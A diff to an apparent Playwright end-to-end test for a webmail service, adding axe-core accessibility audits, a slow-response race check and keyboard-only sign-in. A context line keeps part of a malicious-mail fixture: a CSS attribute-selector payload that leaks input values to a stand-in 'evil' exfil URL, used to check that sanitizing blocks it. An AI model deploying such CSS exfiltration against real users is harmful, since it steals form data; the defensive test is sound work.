@@ -5,12 +5,15 @@ Run by tests/api/web.rs, which starts the service and a harness beside it:
   WEB_HARNESS         GET /code?to=, POST /dns (records), POST /deliver (raw message)
   WEB_OPERATOR_TOKEN  an operator identity token
   WEB_SHOTS           where the screenshots go (desktop and 360 px of every page)
+  WEB_AXE             axe-core's axe.min.js (npm), the accessibility audit run on every page
 
 A person onboards (an operator approves the request), adds and verifies a
 domain against the test DNS server, adds mailboxes, reads a delivered message
 as a thread, replies with an attachment, archives it and sees the reply in the
 thread; a malicious HTML mail runs and fetches nothing; an operator pauses
-sending; the pasted key is gone after sign-out. Any console error fails.
+sending; the pasted key is gone after sign-out. Any console error fails, and
+so does any WCAG 2.1 A/AA violation axe-core finds on a page (light at desktop
+width, dark at 360 px), labels and contrast among them.
 """
 
 import http.server
@@ -31,6 +34,8 @@ AGENT_KEY = os.environ["WEB_AGENT_KEY"]
 HOOK_URL = os.environ["WEB_HOOK_URL"]
 SHOTS = os.environ["WEB_SHOTS"]
 CHROMIUM = os.environ.get("WEB_CHROMIUM", "/usr/bin/chromium")
+with open(os.environ["WEB_AXE"]) as f:
+    AXE = f.read()
 
 PERSON = "ann@newco.example"
 DOMAIN = "newco.example"
@@ -117,17 +122,36 @@ shot_names = []
 
 
 def shot(page, name):
-    """The page at desktop width, then at 360 px, then back."""
+    """The page at desktop width, then at 360 px, then back; audited at each."""
     os.makedirs(SHOTS, exist_ok=True)
     size = page.viewport_size
+    audit(page, name, "desktop, light")
     page.screenshot(path=f"{SHOTS}/{name}-desktop.png", full_page=True)
     page.set_viewport_size({"width": 360, "height": 760})
+    page.emulate_media(color_scheme="dark")
     page.wait_for_timeout(100)
     width = page.evaluate("document.documentElement.scrollWidth")
     assert width <= 362, f"{name}: {width}px wide at 360"
+    audit(page, name, "360 px, dark")
+    page.emulate_media(color_scheme="light")
     page.screenshot(path=f"{SHOTS}/{name}-narrow.png", full_page=True)
     page.set_viewport_size(size)
     shot_names.append(name)
+
+
+def audit(page, name, how):
+    """axe-core's WCAG 2.1 A and AA rules on the page as it is: every control
+    labelled, contrast readable, landmarks and names right. Evaluated through
+    the DevTools protocol, so the page's own policy (script-src 'self') stays
+    as it is."""
+    if not page.evaluate("typeof window.axe !== 'undefined'"):
+        page.evaluate(AXE)
+    found = page.evaluate(
+        """() => axe.run(document, {runOnly: {type: 'tag', values: ['wcag2a', 'wcag2aa', 'wcag21a', 'wcag21aa']}})
+             .then(r => r.violations.map(v => ({id: v.id, help: v.help,
+                 nodes: v.nodes.slice(0, 3).map(n => n.target.join(' ') + ': ' + n.failureSummary)})))"""
+    )
+    assert not found, f"{name} ({how}): accessibility violations: {json.dumps(found, indent=1)}"
 
 
 def new_page(browser, name):
@@ -225,7 +249,7 @@ def person_gets_key(page, watch):
     key = page.locator(".key-once code.secret").inner_text()
     assert key and len(key) > 20
     page.get_by_role("button", name="Copy the key").click()
-    expect(page.get_by_role("button", name="Copy the key")).to_have_text(re.compile("Copied|Selected"))
+    expect(page.locator(".key-once .copy-status")).to_have_text(re.compile("Copied|Selected"))
     shot(page, "key-once")
     page.get_by_role("button", name="I stored it: continue").click()
     expect(page.locator("#nav")).to_be_visible()
@@ -387,6 +411,23 @@ def webmail(page, watch):
     page.get_by_role("searchbox", name="Search").fill("Friday")
     page.get_by_role("button", name="Search", exact=True).click()
     expect(page.locator("ul.threads")).to_contain_text("Plans for Friday")
+    # A slow answer never replaces a newer view: the archive's list, held
+    # back, arrives after the inbox asked for next is shown.
+    held = []
+    slow_archive = re.compile(r".*/inbox\?.*folder=archive.*")
+    page.route(slow_archive, lambda route: held.append(route))
+    page.get_by_role("tab", name="Archive").click()
+    page.get_by_role("tab", name="Inbox").click()
+    expect(page.get_by_role("list", name="Threads in inbox")).to_be_visible()
+    for _ in range(50):
+        if held:
+            break
+        page.wait_for_timeout(100)
+    held[0].continue_()
+    page.unroute(slow_archive)
+    page.wait_for_timeout(500)
+    expect(page.get_by_role("list", name="Threads in inbox")).to_be_visible()
+    expect(page.get_by_role("list", name="Threads in archive")).to_have_count(0)
     watch.check()
 
 
@@ -451,8 +492,9 @@ input[value^="a"] {{ background-image: url({evil}/exfil-a); }}</style>
     page.wait_for_timeout(1500)
     shot(page, "malicious-mail")
     page.get_by_role("button", name="Trash").click()
+    expect(page.get_by_role("list", name="Threads in inbox")).not_to_contain_text("Totally harmless")
     page.get_by_role("tab", name="Trash").click()
-    expect(page.locator("ul.threads")).to_contain_text("Totally harmless")
+    expect(page.get_by_role("list", name="Threads in trash")).to_contain_text("Totally harmless")
     # The cleaned mail did not even try.
     tried = [u for u in watch.urls if u.startswith(evil)]
     assert tried == [] and Listener.hits == [], (tried, Listener.hits)
@@ -577,11 +619,36 @@ def operator_removes_domain(page, watch):
 
 
 def token_sign_in(browser):
-    """An operator pastes an identity token; it is gone after sign-out."""
+    """An operator pastes an identity token with the keyboard alone (Tab to
+    the field, Enter to sign in, Tab and Enter through the pages); it is gone
+    after sign-out."""
     page, watch = new_page(browser, "token")
+    page.goto(BASE + "/")
+    expect(page.get_by_role("heading", name="Sign in")).to_be_visible()
+    tab_to(page, lambda: page.get_by_label("Key or identity token"))
+    page.keyboard.insert_text(OPERATOR_TOKEN)
+    page.keyboard.press("Enter")
+    expect(page.locator("#nav")).to_be_visible()
+    for name in ["Domain", "Operators"]:
+        tab_to(page, lambda: page.locator("#nav").get_by_role("link", name=name, exact=True))
+        page.keyboard.press("Enter")
+        expect(page.get_by_role("heading", name=name, exact=True)).to_be_visible()
+    tab_to(page, lambda: page.get_by_role("button", name="Sign out"))
+    page.keyboard.press("Enter")
+    expect(page.get_by_role("heading", name="Sign in")).to_be_visible()
     sign_in(page, OPERATOR_TOKEN)
     nav(page, "Operators")
     signs_out(page, watch, OPERATOR_TOKEN)
+
+
+def tab_to(page, target, presses=40):
+    """Presses Tab until `target()` has the focus: the control is reachable
+    from the keyboard, in the page's own order."""
+    for _ in range(presses):
+        page.keyboard.press("Tab")
+        if target().evaluate("el => el === document.activeElement"):
+            return
+    raise AssertionError(f"not reached with {presses} presses of Tab: {target()}")
 
 
 def drafts(page, watch):
